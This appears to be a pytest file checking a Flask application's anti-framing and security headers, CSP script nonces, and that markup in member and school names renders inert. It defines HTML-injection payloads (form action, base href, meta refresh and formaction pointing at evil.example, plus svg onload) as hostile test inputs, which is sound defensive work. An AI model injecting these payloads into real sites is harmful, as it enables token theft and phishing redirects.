"""Attacks by framing, sniffing and markup: CS-04, CS-05 and CS-08 of the catalogue."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from flask import Flask
from werkzeug.test import TestResponse

from app.web import anyone, permit
from tests.approvals import world
from tests.approvals.world import browser, path
from tests.attacks.pages import addresses, mistakes, read, visitors
from tests.conftest import application, settings

HOSTILE = (
    '</title></script></textarea>"\'><form action="//evil.example"><input name="csrf_token">'
    '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">'
    '<button formaction="//evil.example">x</button><svg onload="alert(1)">'
)


@pytest.fixture(params=["http://localhost:8000", "https://access.example.org"])
def site(request: pytest.FixtureRequest, database_url: str, tmp_path: Path) -> Iterator[Flask]:
    """The product on plain http at home and on https, with one page that breaks."""
    chosen = settings(database_url, issuer=request.param, mail_directory=tmp_path / "mail")
    with application(chosen) as app:

        @app.get("/broken")
        @permit(anyone)
        def _broken() -> str:
            raise RuntimeError("SELECT secret FROM somewhere")

        yield app


def answers(site: Flask) -> Iterator[TestResponse]:
    client = site.test_client(use_cookies=False)
    for visitor in visitors(site):
        for address in addresses(site, visitor):
            yield read(client.get(address, headers=visitor.headers))
    yield from mistakes(site)


def test_CS_04_responses_of_every_kind_refuse_framing(site: Flask) -> None:
    seen = set()
    for answer in answers(site):
        where = f"{answer.status_code} {answer.request.path}"
        policy = answer.headers["Content-Security-Policy"]
        assert "frame-ancestors 'none'" in policy, where
        assert answer.headers["X-Frame-Options"] == "DENY", where
        seen.add(answer.status_code)
    assert seen >= {200, 303, 400, 401, 404, 405, 413, 415, 500}


def test_CS_05_responses_of_every_kind_have_security_headers(site: Flask) -> None:
    secure = site.config["PREFERRED_URL_SCHEME"] == "https"
    for answer in answers(site):
        where = f"{answer.status_code} {answer.request.path}"
        headers = answer.headers
        policy = headers["Content-Security-Policy"]
        assert policy.startswith("default-src 'none';"), where
        assert "unsafe-" not in policy, where
        assert "*" not in policy, where
        assert headers["X-Content-Type-Options"] == "nosniff", where
        assert headers["Referrer-Policy"] in {"same-origin", "no-referrer"}, where
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin", where
        assert headers["Cross-Origin-Resource-Policy"] in {"same-origin", "cross-origin"}, where
        assert "camera=()" in headers["Permissions-Policy"], where
        transport = headers.get("Strict-Transport-Security", "")
        assert ("max-age=63072000" in transport) is secure, where


def test_CS_05_scripts_of_a_page_carry_its_nonce(site: Flask) -> None:
    scripts = 0
    for answer in answers(site):
        policy = answer.headers["Content-Security-Policy"]
        for tag, attributes in elements(answer.text):
            assert not any(name.startswith("on") for name in attributes), answer.request.path
            assert "style" not in attributes, answer.request.path
            if tag == "script":
                assert f"'nonce-{attributes['nonce']}'" in policy, answer.request.path
                scripts += 1
    assert scripts


def elements(page: str) -> list[tuple[str, dict[str, str]]]:
    found: list[tuple[str, dict[str, str]]] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, {name: value or "" for name, value in attrs}))

    if page[:15].lower() == "<!doctype html>":
        Reader().feed(page)
    return found


def test_CS_08_markup_in_a_name_is_inert_on_pages_of_others(app: Flask) -> None:
    school = world.school("Ash <base href='//evil.example'><svg onload=x>")
    ann = world.member(school, "ann@ashfield.example", approver=True)
    eve = world.member(
        school,
        "eve@ashfield.example",
        "School_Anon",
        given_name=HOSTILE[:100],
        family_name=HOSTILE[-100:],
    )
    approver, operator = browser(app, ann), browser(app, world.operator())
    person = world.who(eve).subject
    seen = [
        approver.get(path(school)),
        approver.get(path(school, "users")),
        approver.get(path(school, "users", eve.public_id)),
        approver.get(path(school, "users", eve.public_id, "remove")),
        approver.get(path(school, "users", eve.public_id, "approver", "make")),
        approver.get(path(school, "activity")),
        operator.get(f"/ops/people/{person}"),
        operator.get(f"/ops/people/{person}/suspend"),
        operator.get(f"/ops/organisations/{school.public_id}"),
        operator.get("/ops/audit"),
    ]
    for page in seen:
        assert page.status == 200, page.address
        assert "evil.example" in page.html, page.address
        for tag, attributes in elements(page.html):
            assert tag != "base", page.address
            assert tag != "svg" or attributes.get("class") == "sa-bar", page.address
            assert "formaction" not in attributes, page.address
            assert "http-equiv" not in attributes, page.address
            for name in ("action", "href", "src"):
                assert not attributes.get(name, "/").startswith("//"), page.address
        policy = page.response.headers["Content-Security-Policy"]
        assert "form-action 'self';" in policy
        assert "base-uri 'none'" in policy
